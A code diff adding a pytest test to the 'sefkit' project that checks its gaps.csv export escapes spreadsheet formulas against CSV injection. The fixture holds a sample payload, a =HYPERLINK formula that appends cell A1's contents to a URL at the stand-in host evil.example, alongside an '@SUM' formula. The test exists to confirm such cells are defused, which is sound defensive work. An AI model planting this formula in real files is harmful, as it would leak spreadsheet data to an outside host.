@@ -116,3 +116,18 @@ def test_half_written_folders_of_a_dead_run_are_cleared_but_a_live_ones_are_kept
         (folder / "sef-report.html").write_text("half")
     assert remove_stale_partials(tmp_path, ["alpha"]) == [dead]
     assert not dead.exists() and live.exists()
+
+
+def test_gaps_csv_cells_are_never_formulas_when_opened_in_excel():
+    """An action ref like =HYPERLINK(...) reaches gaps.csv; Excel would run it (CSV injection)."""
+    import csv
+    import io
+
+    from sefkit.publish.batch import _gaps_csv
+
+    gap = {"type": "action_overdue", "severity": "medium", "criterion": "C-1", "annex_a": None,
+           "description": "-1 is fine as text", "next_step": "@SUM(1+1)", "criteria": ["C-1"],
+           "ref": '=HYPERLINK("http://evil.example/?x="&A1,"Click")'}
+    rows = list(csv.reader(io.StringIO(_gaps_csv([gap]))))
+    assert rows[1][7] == "'" + gap["ref"] and rows[1][5] == "'@SUM(1+1)" and rows[1][4] == "'-1 is fine as text"
+    assert rows[1][:4] == ["action_overdue", "medium", "C-1", ""]
